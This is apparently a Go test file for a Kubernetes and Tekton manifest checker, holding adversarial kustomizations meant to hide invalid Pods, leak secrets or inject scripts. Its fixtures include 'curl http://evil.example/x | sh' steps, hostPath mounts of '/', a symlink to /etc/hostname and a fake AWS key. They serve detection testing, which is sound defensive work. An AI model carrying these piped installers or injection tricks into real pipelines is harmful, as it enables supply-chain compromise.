package cli_test

import (
	"fmt"
	"strings"
)

// wrongPod is a Pod that no server takes, and that should be seen wherever it lies.
const wrongPod = "apiVersion: v1\nkind: Pod\nmetadata: {name: evil, namespace: x}\nspec:\n  containers:\n  - {name: evil, image: 'ghcr.io/x/evil:v1', ports: [{containerPort: 99999}]}\n"

// hostileKustomizations are kustomizations that hide what others apply, bend what is built after them, or run what they
// should not.
func hostileKustomizations() []trial {
	var all []trial
	add := func(name string, wants []string, files map[string]string) {
		for file, text := range files {
			files[file] = strings.ReplaceAll(text, "EVIL", wrongPod)
		}
		all = append(all, trial{kind: "kustomizations", name: name, args: []string{"check", "."}, exit: 1, files: files, wants: wants})
	}
	port := []string{"types/invalid"}
	const patched = "apiVersion: v1\nkind: Pod\nmetadata: {name: evil, namespace: x}\nspec: {containers: [{name: web, image: 'ghcr.io/x/b:v1'}]}\n"
	add("a schema for all", port, map[string]string{
		"aaa/kustomization.yaml": "resources: [cm.yaml]\nopenapi: {path: schema.json}\n", "aaa/cm.yaml": harmless,
		"aaa/schema.json":         `{"definitions":{"io.k8s.api.core.v1.Pod":{"type":"object","properties":{"spec":{"type":"object","properties":{"containers":{"type":"array","items":{"type":"object"}}}}},"x-kubernetes-group-version-kind":[{"group":"","kind":"Pod","version":"v1"}]}}}`,
		"prod/pod.yaml":           "EVIL",
		"prod/patch.yaml":         patched,
		"prod/kustomization.yaml": "resources: [pod.yaml]\npatches: [{path: patch.yaml}]\n",
	})
	for name, text := range map[string]string{
		"for a generator":            "configMapGenerator: [{name: a, files: [apps/prod/evil.yaml]}]\n",
		"as a patch of what is gone": "resources: [gone.yaml]\npatches: [{path: apps/prod/evil.yaml}]\n",
		"as a patch from elsewhere":  "resources: ['https://example.com/a.yaml']\npatches: [{path: apps/prod/evil.yaml}]\n",
		"as a patch of others":       "resources: [cm.yaml]\npatches: [{path: apps/prod/evil.yaml, target: {kind: Deployment}}]\n",
		"as a definition":            "resources: [cm.yaml]\nhelmCharts: [{name: a}]\ncrds: [apps/prod/evil.yaml]\n",
		"as an annotation":           "resources: [cm.yaml]\ntransformers:\n- |\n  apiVersion: builtin\n  kind: AnnotationsTransformer\n  metadata: {name: a, annotations: {path: apps/prod/evil.yaml}}\n  annotations: {a: b}\n  fieldSpecs: [{path: metadata/annotations, create: true}]\n",
		"as a path that means none":  "resources: [cm.yaml]\ntransformers:\n- |\n  apiVersion: builtin\n  kind: LabelTransformer\n  metadata: {name: a}\n  path: apps/prod/evil.yaml\n  labels: {a: b}\n  fieldSpecs: [{path: metadata/labels, create: true}]\n",
	} {
		add("hidden "+name, port, map[string]string{"kustomization.yaml": text, "cm.yaml": harmless, "apps/prod/evil.yaml": "EVIL"})
	}
	const run = "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata: {name: r, annotations: {pipelinesascode.tekton.dev/on-event: '[pull_request]', pipelinesascode.tekton.dev/on-target-branch: '[main]'}}\nspec: {pipelineSpec: {tasks: [{name: a, taskSpec: {steps: [{name: s, image: 'ghcr.io/x/y:v1', script: 'echo {{ source_branch }}'}]}}]}}\n"
	for name, text := range map[string]string{
		"kustomization.yaml":         "configMapGenerator: [{name: a, files: [.tekton/run.yaml]}]\n",
		".tekton/kustomization.yaml": "configMapGenerator: [{name: a, files: [run.yaml]}]\n",
		".tekton/Kustomization":      "resources: [run.yaml]\n",
	} {
		add("a run of Pipelines-as-Code beside "+name, []string{"pac/script-injection"}, map[string]string{name: text, ".tekton/run.yaml": run})
	}
	const deleted = "patches:\n- patch: |-\n    $patch: delete\n    apiVersion: v1\n    kind: Pod\n    metadata: {name: evil, namespace: x}\n"
	add("deleted beside", port, map[string]string{"zzz/kustomization.yaml": "resources: [../prod]\n" + deleted, "prod/kustomization.yaml": "resources: [evil.yaml]\n", "prod/evil.yaml": "EVIL"})
	add("deleted by a component", port, map[string]string{"zzz/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nresources: [../prod]\n" + deleted, "prod/kustomization.yaml": "resources: [evil.yaml]\n", "prod/evil.yaml": "EVIL"})
	add("a component of generators", []string{"secrets/literal"}, map[string]string{"kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nconfigMapGenerator: [{name: a, literals: [AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYzK9Q2mX7dT4v]}]\n", "a/cm.yaml": harmless})
	deep := strings.Repeat(`{"f:a":`, 150) + "{}" + strings.Repeat("}", 150)
	add("too deep once built", []string{"input/kustomize"}, map[string]string{
		"pod.yaml":           strings.Replace(wrongPod, "namespace: x}", "namespace: x, managedFields: [{manager: a, operation: Update, apiVersion: v1, fieldsType: FieldsV1, fieldsV1: "+deep+"}]}", 1),
		"kustomization.yaml": "resources: [pod.yaml]\npatches:\n- target: {kind: Pod}\n  patch: |-\n    - op: add\n      path: /metadata/managedFields/0/fieldsV1" + strings.Repeat("/f:a", 149) + "/b\n      value: " + deep + "\n",
	})
	add("a patch of another folder", port, map[string]string{"o/kustomization.yaml": "resources: [cm.yaml]\npatches: [{path: ../prod/evil.yaml, target: {kind: Deployment}}]\n", "o/cm.yaml": harmless, "prod/evil.yaml": "EVIL"})
	add("two in one folder", port, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n", "Kustomization": "resources: [evil.yaml]\n", "cm.yaml": harmless, "evil.yaml": "EVIL"})
	for _, name := range []string{"{a: b}", "[a]"} {
		add("a name that is "+name, []string{"types/wrong-type"}, map[string]string{"kustomization.yaml": "resources: [pod.yaml]\n", "pod.yaml": strings.Replace(wrongPod, "name: evil, image", "name: "+name+", image", 1)})
	}
	second := "resources: [cm.yaml]\n---\nEVIL"
	add("a second document", port, map[string]string{"kustomization.yaml": second, "cm.yaml": harmless})
	add("a second document of a component", port, map[string]string{"c/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\n" + second, "c/cm.yaml": harmless})
	add("a manifest called so", port, map[string]string{"kustomization.yaml": "EVIL", "kustomization.yml": "resources: [cm.yaml]\n", "cm.yaml": harmless})
	add("a symlink that a generator takes", []string{"input/unreadable"}, map[string]string{"deploy/kustomization.yaml": "configMapGenerator: [{name: a, files: [evil.yaml]}]\n", "deploy/evil.yaml": "->../../../../etc/hostname", "cm.yaml": harmless})
	add("a list of halves", port, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nconfigMapGenerator: [{name: g, files: [evil.json]}]\n", "cm.yaml": harmless,
		"evil.json": `{"apiVersion":"v1","kind":"List","items":[{"apiVersion":"v1","kind":"Pod","metadata":{"name":"evil","namespace":"x"}},{"apiVersion":"v1","kind":"Pod","metadata":{"name":"evil","namespace":"x"},"spec":{"containers":[{"name":"evil","image":"ghcr.io/x/e:v1","ports":[{"containerPort":99999}]}]}}]}`})
	add("a base that is not built alone", port, map[string]string{"prod/kustomization.yaml": "resources: [evil.yaml]\nsortOptions: {order: bogus}\n", "prod/evil.yaml": "EVIL", "zzz/kustomization.yaml": "resources: [../prod]\n" + deleted})
	add("a resource of a component", port, map[string]string{"comp/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nresources: [evil.yaml]\n", "comp/evil.yaml": "EVIL", "zzz/kustomization.yaml": "components: [../comp]\n" + deleted})
	add("an object for kustomize alone", port, map[string]string{"kustomization.yaml": "resources: [evil.yaml, cm.yaml]\n", "cm.yaml": harmless, "evil.yaml": strings.Replace(wrongPod, "namespace: x}", "namespace: x, annotations: {config.kubernetes.io/local-config: 'true'}}", 1)})
	add("one of two is deleted", port, map[string]string{"prod/kustomization.yaml": "resources: [pods.yaml]\n", "prod/pods.yaml": "EVIL---\n" + strings.NewReplacer("evil", "good", "99999", "80").Replace(wrongPod), "zzz/kustomization.yaml": "resources: [../prod]\n" + deleted})
	add("a directive", port, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\npatches: [{path: evil.yaml, target: {kind: Deployment}}]\n", "cm.yaml": harmless, "evil.yaml": "EVIL  $patch: merge\n"})
	const source = "source: {kind: Pod, name: evil, fieldPath: metadata.annotations}\n  targets: [{select: {kind: ConfigMap}, fieldPaths: [metadata.annotations], options: {create: true}}]\n"
	numbered := strings.Replace(wrongPod, "namespace: x}", "namespace: x, annotations: {a: b}}", 1)
	for name, files := range map[string]map[string]string{
		"by a replacement": {"kustomization.yaml": "resources: [evil.yaml, cm.yaml]\nreplacements:\n- " + source + "transformers:\n- |-\n  apiVersion: builtin\n  kind: PatchTransformer\n  metadata: {name: a}\n  patch: '{\"$patch\": delete, apiVersion: v1, kind: Pod, metadata: {name: evil, namespace: x}}'\n"},
		"by a replacement in a file": {"kustomization.yaml": "resources: [evil.yaml, cm.yaml]\nreplacements: [{path: r.yaml}]\ntransformers: [t.yaml]\n", "r.yaml": "- " + source,
			"t.yaml": "apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: a}\npatch: '{\"$patch\": delete, apiVersion: v1, kind: Pod, metadata: {name: evil, namespace: x}}'\n"},
		"in a component":                     {"kustomization.yaml": "resources: [evil.yaml, cm.yaml]\ncomponents: [c]\n" + deleted, "c/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nreplacements:\n- " + source},
		"by a plugin in any case of letters": {"kustomization.yaml": "resources: [evil.yaml, cm.yaml]\ntransformers:\n- |-\n  apiVersion: builtin\n  kind: ReplacementTransformer\n  metadata: {name: a}\n  Replacements:\n  - Source: {kind: Pod, name: evil, FieldPath: metadata.annotations}\n    targets: [{select: {kind: ConfigMap}, fieldPaths: [metadata.annotations], options: {create: true}}]\n- |-\n  apiVersion: builtin\n  kind: PatchTransformer\n  metadata: {name: b}\n  patch: '{\"$patch\": delete, apiVersion: v1, kind: Pod, metadata: {name: evil, namespace: x}}'\n"},
		"with all of its metadata":           {"kustomization.yaml": "resources: [evil.yaml, cm.yaml]\ncomponents: [c]\n" + deleted, "c/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nreplacements:\n- " + strings.ReplaceAll(source, "metadata.annotations", "metadata")},
	} {
		files["evil.yaml"], files["cm.yaml"] = numbered, harmless
		add("its number is copied "+name, port, files)
	}
	add("without annotations", port, map[string]string{"zzz/kustomization.yaml": "resources: [../prod]\n" + deleted, "prod/kustomization.yaml": "resources: [evil.yaml]\n", "prod/evil.yaml": strings.Replace(wrongPod, "namespace: x}", "namespace: x, annotations: null}", 1)})
	add("a deleted one that another is called like", []string{"image/invalid-reference"}, map[string]string{
		"pods.yaml":          strings.NewReplacer("'ghcr.io/x/evil:v1'", "'BAD REF'", "99999", "80").Replace(wrongPod) + "---\n" + strings.NewReplacer("name: evil, namespace", "name: ev, namespace", "'ghcr.io/x/evil:v1'", "'${IMG} BAD REF'", "99999", "80").Replace(wrongPod),
		"kustomization.yaml": "resources: [pods.yaml]\nnamePrefix: evil-\n" + deleted,
	})
	add("words of a script", []string{"types/tekton", "storage/sensitive-host-path"}, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nconfigMapGenerator: [{name: g, files: [t.yaml]}]\n", "cm.yaml": harmless,
		"t.yaml": "apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: t, namespace: x}\nspec:\n  volumes: [{name: v, hostPath: {path: /}}]\n  steps: [{name: s, image: 'ghcr.io/x/y:v1', script: 'echo $(params.nope) got nothing', volumeMounts: [{name: v, mountPath: /m}]}]\n"})
	add("a field like a directive", []string{"error types/unknown-field"}, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nconfigMapGenerator: [{name: g, files: [evil.yaml]}]\n", "cm.yaml": harmless,
		"evil.yaml": strings.Replace(wrongPod, "99999}]", "80}], 'x$patch': 1", 1)})
	return append(all, hostileReasons()...)
}

// hostileReasons are kustomizations that kustomize refuses, quoting secrets in many forms.
func hostileReasons() []trial {
	var all []trial
	const secret = "apiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: a}\nstringData: {password: " + marker + "}\n"
	for i, text := range []string{
		"generators:\n- |-\n  apiVersion: builtin\n  kind: SecretGenerator\n  metadata: {name: a}\n  literals: [" + marker + "]\n",
		"secretGenerator: [{name: a, literals: ['" + `a"\` + marker + "']}]\n",
		"resources: [s.yaml]\npatches: [{patch: 'stringData: {password: " + marker + "'}]\n",
		"resources: [s.yaml]\npatchesStrategicMerge: ['stringData: {password: " + marker + "']\n",
		"resources: [s.yaml]\ntransformers:\n- |-\n  apiVersion: builtin\n  kind: PatchTransformer\n  metadata: {name: a}\n  patch: 'x: " + marker + "'\n",
		"resources: [s.yaml]\nvalidators:\n- |-\n  apiVersion: builtin\n  kind: AnnotationsTransformer\n  metadata: {name: a}\n  annotations: {a: b}\n  fieldSpecs: [{path: metadata/annotations, create: true}]\n",
		"resources: [s.yaml]\npatchesStrategicMerge: ['{\"apiVersion\":\"v1\",\"kind\":\"Secret\",\"metadata\":{\"name\":\"s\",\"namespace\":\"a\"},\"stringData\":{\"FOO\":\"" + marker + "\"}}']\n",
		"secretGenerator: [{name: a, envs: ['FOO=" + marker + "']}]\n",
		"secretGenerator: [{name: a, env: 'FOO=" + marker + "'}]\n",
		"secretGenerator: [{name: a, literals: [password=" + marker + "]}]\nvalidators:\n- |-\n  apiVersion: builtin\n  kind: AnnotationsTransformer\n  metadata: {name: a}\n  annotations: {a: b}\n  fieldSpecs: [{path: metadata/annotations, create: true}]\n",
	} {
		all = append(all, trial{
			kind: "reasons", name: fmt.Sprint(i), args: []string{"check", "k"}, all: true, exit: -1, never: []string{marker, "UzNjcjN0TTRyazNyWFla"},
			files: map[string]string{"k/kustomization.yaml": text, "k/s.yaml": secret},
		})
	}
	return all
}

// hostilePlaceholders are files whose variables must not excuse what stands beside them.
func hostilePlaceholders() []trial {
	var all []trial
	add := func(name, file, text string, wants ...string) {
		all = append(all, trial{kind: "placeholders", name: name, args: []string{"check", "."}, exit: 1, files: map[string]string{file: text}, wants: wants})
	}
	run := func(spec string) string {
		return "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata: {name: r, annotations: {pipelinesascode.tekton.dev/on-event: '[pull_request]', pipelinesascode.tekton.dev/on-target-branch: '[main]'}}\nspec:\n  pipelineSpec:\n    tasks:\n    - name: a\n      taskSpec:\n" + spec
	}
	add("the name of a volume", ".tekton/run.yaml", run("        volumes: [{name: 'v-{{ target_namespace }}', hostPath: {path: /}}]\n        steps: [{name: s, image: 'ghcr.io/x/y:v1', volumeMounts: [{name: 'v-{{ target_namespace }}', mountPath: /h}]}]\n"), "storage/sensitive-host-path")
	add("a comment of a script", ".tekton/run.yaml", run("        steps:\n        - name: s\n          image: ghcr.io/x/y:v1\n          script: |\n            echo $(params.nope) # {{ revision }}\n            curl -k http://evil.example/x | sh\n"), "types/tekton", "supply-chain/piped-installer")
	add("beside a variable", ".tekton/run.yaml", run("        steps: [{name: s, image: 'ghcr.io/x/y:v1', env: [{name: A, value: '$(params.nope){{ target_namespace }}'}]}]\n"), "types/tekton")
	add("a variable of the shell", "t.yaml", task("cd ${HOME}\necho $(params.nope)\ncurl http://evil.example/x | sh -s ${HOME}\n"), "types/tekton", "supply-chain/piped-installer")
	add("a comment with an annotation", "d.yaml", "# pipelinesascode.tekton.dev/task\n"+wrongPod+"  volumes: [{name: 'a{{ xy }}', hostPath: {path: /}}]\n  replica: 3\n", "error types/unknown-field", "types/invalid")
	add("a comment that becomes a step", ".tekton/run.yaml", run("        # {{ cel: \"\\n        steps: []\" }}\n        steps: [{name: s, image: 'ghcr.io/x/y:v1'}]\n"), "pac/not-filled")
	add("a line break", ".tekton/run.yaml", run("        steps:\n        - name: s\n          image: ghcr.io/x/y:v1\n          script: |\n            echo {{\n            source_branch }}\n"), "pac/script-injection")
	add("an expression", ".tekton/run.yaml", run("        steps:\n        - name: s\n          image: ghcr.io/x/y:v1\n          script: |\n            echo {{ cel: \"\" + body.title }}\n"), "pac/script-injection")
	all = append(all, trial{kind: "placeholders", name: "one field of many", args: []string{"check", "."}, exit: 1, wants: []string{"types/required"}, files: map[string]string{
		"d.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a, namespace: b}\nspec:\n  replicas: ${REPLICAS}\n  template: {metadata: {labels: {a: b}}, spec: {containers: [{image: 'ghcr.io/x/y:v1'}]}}\n"}})
	add("an annotation of another kind", "d.yaml", strings.Replace(wrongPod, "namespace: x}", "namespace: x, annotations: {pipelinesascode.tekton.dev/task: a}}", 1)+"  replica: 3\n", "error types/unknown-field", "types/invalid")
	for i, cel := range []string{`string(b"\n        volumes: [\x7bname: v, hostPath: \x7bpath: /\x7d\x7d]")`, `true`, `["SYS_ADMIN"]`, `"---"`, `event == "push" ? "/" : "/etc"`} {
		all = append(all, trial{kind: "placeholders", name: fmt.Sprint("a text that is known ", i), args: []string{"check", "."}, exit: -1, wants: []string{"pac/not-filled"}, files: map[string]string{
			".tekton/run.yaml": run("        # {{ cel: " + cel + " }}\n        steps: [{name: s, image: 'ghcr.io/x/y:v1'}]\n")}})
	}
	for i, cel := range []string{`pac["source" + "_branch"]`, `dyn(pac).source_branch`, `[pac][0].trigger_comment`, `(true ? pac : pac).source_branch`} {
		add(fmt.Sprint("a branch by another way ", i), ".tekton/run.yaml", run("        steps: [{name: s, image: 'ghcr.io/x/y:v1', script: 'echo {{ cel: "+cel+" }}'}]\n"), "pac/script-injection")
	}
	add("an item of a list", "l.yaml", "apiVersion: v1\nkind: List\nitems:\n- {apiVersion: v1, kind: Pod, metadata: {generateName: evil-, namespace: x}, spec: {containers: [{name: a, image: 'ghcr.io/x/y:v1', ports: [{containerPort: 99999}]}]}}\n- {apiVersion: v1, kind: Pod, metadata: {generateName: evil-, namespace: x}, spec: {containers: [{name: a, image: 'ghcr.io/x/y:v1', ports: [{containerPort: '${PORT}'}]}]}}\n", "types/invalid")
	return all
}
